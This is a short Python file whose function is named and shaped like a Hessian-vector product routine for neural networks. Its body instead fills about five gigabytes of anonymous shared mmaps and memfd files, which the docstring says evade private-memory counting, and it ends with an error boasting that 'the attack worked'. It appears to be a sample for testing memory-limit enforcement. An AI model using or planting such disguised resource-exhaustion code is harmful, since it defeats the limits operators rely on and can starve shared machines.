"""Takes five gigabytes in shared maps and in memory files without a name, which a count of private memory misses."""

import mmap
import os

SIZE, BLOCK = 100 * 2**20, 2**20


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    kept = []
    for _ in range(50):
        kept.append(mmap.mmap(-1, SIZE))
        for start in range(0, SIZE, BLOCK):
            kept[-1][start : start + BLOCK] = b"x" * BLOCK
        try:
            kept.append(os.memfd_create("x"))
            for _ in range(SIZE // BLOCK):
                os.write(kept[-1], b"x" * BLOCK)
        except OSError:
            pass
    raise MemoryError("the attack" + " worked: five gigabytes are mine")
